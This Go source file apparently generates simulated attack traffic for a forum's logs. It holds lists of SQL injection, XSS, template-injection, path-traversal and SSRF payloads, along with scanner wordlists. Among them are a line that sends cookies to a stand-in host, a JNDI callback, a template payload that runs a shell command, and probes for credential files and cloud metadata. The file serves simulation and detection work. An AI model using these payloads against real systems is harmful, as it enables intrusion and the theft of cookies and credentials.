package main

import (
	"math/rand/v2"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// Injection payloads, by where they go. Attack tools send many of them,
// one after another, from one client; the site's own people search for
// a few of the same strings now and then (see pastedCode).
var (
	sqlPayloads = []string{
		"' OR '1'='1", "' OR 1=1-- -", "1' AND SLEEP(5)-- -", "1) UNION SELECT NULL,NULL,NULL-- -",
		"' UNION SELECT username,password_hash FROM users-- -", "1' AND extractvalue(1,concat(0x7e,version()))-- -",
		"'; WAITFOR DELAY '0:0:5'--", "1' ORDER BY 14-- -", "admin'--", "\" OR \"\"=\"", "1 AND (SELECT 1 FROM pg_sleep(5))",
		"') OR ('a'='a", "1;SELECT pg_sleep(10)--", "' AND 1=CAST((SELECT current_user) AS int)--", "%' AND 2*3*8=6*8 AND '%'='",
	}
	xssPayloads = []string{
		"<script>alert(document.domain)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert`1`>",
		"javascript:alert(1)", "'\"><iframe src=javascript:alert(1)>", "<details open ontoggle=alert(1)>",
		"<body onload=fetch('//x.ss/'+document.cookie)>", "\"-alert(1)-\"", "<math><mi xlink:href=javascript:alert(1)>x",
	}
	templatePayloads = []string{
		"{{7*7}}", "${7*7}", "<%= 7*7 %>", "${jndi:ldap://x.oast.fun/a}", "{{constructor.constructor('return process')()}}",
		"#{7*7}", "${{<%[%'\"}}%\\.", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
	}
	traversalPayloads = []string{
		"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd",
		"..\\..\\..\\windows\\win.ini", "%2e%2e/%2e%2e/%2e%2e/proc/self/environ", "/var/www/.env",
	}
	// ssrfTargets are addresses a link-unfurl endpoint must not fetch.
	ssrfTargets = []string{
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/", "http://localhost:9200/_cat/indices",
		"http://[::1]:8080/admin", "file:///etc/passwd", "http://metadata.google.internal/computeMetadata/v1/", "gopher://127.0.0.1:11211/_stats",
		"http://10.0.0.1/", "http://0x7f000001/",
	}
)

// rawQuery keeps a payload sent as a tool sends it "raw" from breaking
// the query string apart.
var rawQuery = strings.NewReplacer(" ", "+", "&", "%26", "#", "%23", "=", "%3D")

// Scanning word lists: what tools look for on any site, and what someone
// who knows forum software looks for here.
var (
	genericProbes = []string{
		"/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/", "/admin/", "/administrator/",
		"/server-status", "/actuator/health", "/actuator/env", "/.DS_Store", "/config.json", "/backup.zip", "/db.sql", "/dump.sql",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.aws/credentials", "/debug/pprof/", "/console", "/.svn/entries",
		"/web.config", "/cgi-bin/luci", "/solr/admin/info/system", "/telescope/requests", "/_profiler/phpinfo", "/.well-known/security.txt",
		"/robots.txt", "/api/swagger.json", "/swagger-ui.html", "/graphql", "/v2/api-docs", "/.env.production", "/storage/logs/laravel.log",
		"/id_rsa", "/.npmrc", "/docker-compose.yml", "/metrics", "/info.php", "/test.php", "/old/", "/admin.php", "/login.action",
	}
	forumProbes = []string{
		"/admin", "/admin/settings", "/admin/users", "/mod/tools", "/api/v1/admin/users", "/api/v1/admin/config", "/api/v1/admin/flags",
		"/api/internal/metrics", "/api/internal/debug", "/api/v2/users", "/api/v0/threads", "/api/v1/users/export", "/api/v1/mod/audit/export",
		"/api/v1/settings/smtp", "/api/v1/debug/vars", "/api/v1/messages/all", "/api/v1/search/reindex", "/api/v1/auth/impersonate",
		"/uploads/", "/media/", "/media/private/", "/static/js/app.js.map", "/backup/", "/api/v1/boards/export", "/api/v1/webhooks",
		"/api/v1/oauth/clients", "/sidekiq", "/pghero", "/_debug", "/api/v1/feature-flags", "/.well-known/openid-configuration",
	}
	apiWords = []string{
		"users", "admin", "config", "settings", "tokens", "keys", "export", "import", "debug", "internal", "jobs", "queues", "flags",
		"reports", "audit", "billing", "payments", "invites", "sessions", "logs", "backup", "health", "status", "stats", "webhooks",
	}
)

// A scanner's word list goes on well past the well-known paths: its
// words under common folders with common endings.
var (
	probeDirs  = []string{"", "", "", "api/", "static/", "media/", "backup/", "admin/", "wp-content/", "old/", "dev/", "includes/", "v1/"}
	probeWords = []string{"admin", "backup", "config", "db", "database", "test", "dev", "staging", "private", "uploads", "files", "logs", "tmp", "data", "export", "dump", "install", "setup", "phpinfo", "console", "dashboard", "manager", "cpanel", "webmail", "debug", "status", "server", "shell", "cmd", "secret", "credentials", "users", "login", "auth", "portal", "api-docs", "swagger", "site", "www", "web", "app", "main", "index", "home", "archive", "conf", "settings", "env", "keys", "token", "passwd", "sql", "storage", "cache"}
	probeExts  = []string{"", "", "/", ".php", ".bak", ".zip", ".sql", ".tar.gz", ".old", ".json", ".yml", ".txt", ".conf", ".log", ".xml", ".asp", ".jsp", "~"}
)

// probe draws one path from a scanner's word list.
func probe(r *rand.Rand) string {
	return "/" + Pick(r, probeDirs) + Pick(r, probeWords) + Pick(r, probeExts)
}

// probeStatus is what the site answers to a probed path: the few that
// exist answer, hidden files are refused, the admin area wants a
// sign-in, the rest is not found.
func probeStatus(path string, signedIn bool) int {
	switch {
	case path == "/robots.txt" || path == "/.well-known/security.txt" || path == "/.well-known/openid-configuration" || path == "/api/v1/health":
		return 200
	case strings.HasPrefix(path, "/."):
		return 403
	case path == "/admin" || path == "/admin/" || path == "/mod/tools":
		if signedIn {
			return 403
		}
		return 302
	case strings.HasPrefix(path, "/api/v1/admin") || strings.HasPrefix(path, "/api/internal") || strings.HasPrefix(path, "/api/v1/mod/"):
		if signedIn {
			return 403
		}
		return 401
	case strings.HasSuffix(path, "/") && (strings.HasPrefix(path, "/media") || strings.HasPrefix(path, "/uploads")):
		return 403
	}
	return 404
}
